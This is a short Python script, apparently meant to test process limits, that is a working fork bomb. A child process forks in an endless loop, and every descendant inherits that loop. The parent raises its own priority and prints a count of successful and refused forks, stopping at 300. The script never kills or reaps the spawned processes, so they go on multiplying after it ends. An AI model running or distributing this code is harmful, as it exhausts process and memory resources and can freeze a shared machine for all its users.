# Every process forks for ever. The first one only counts, at the highest priority, and says how far it came; at 300 the point is made.
import os, time

count, tell = os.pipe()
os.set_blocking(tell, False)

def say(what):
    try: os.write(tell, what)
    except BlockingIOError: pass

def bomb():
    while True:
        try:
            if os.fork() == 0: say(b"+")
        except OSError: # EAGAIN, or ENOMEM
            say(b"-")
            time.sleep(0.02)

if os.fork() == 0: bomb()
try: os.nice(-20)
except OSError: pass
made = refused = 0
end = time.monotonic() + 60
os.set_blocking(count, False)
while made < 300 and time.monotonic() < end:
    try: got = os.read(count, 65536)
    except BlockingIOError: time.sleep(0.01); continue
    made += got.count(b"+")
    refused += got.count(b"-")
    print(f"processes={made} refused={refused}", flush=True)
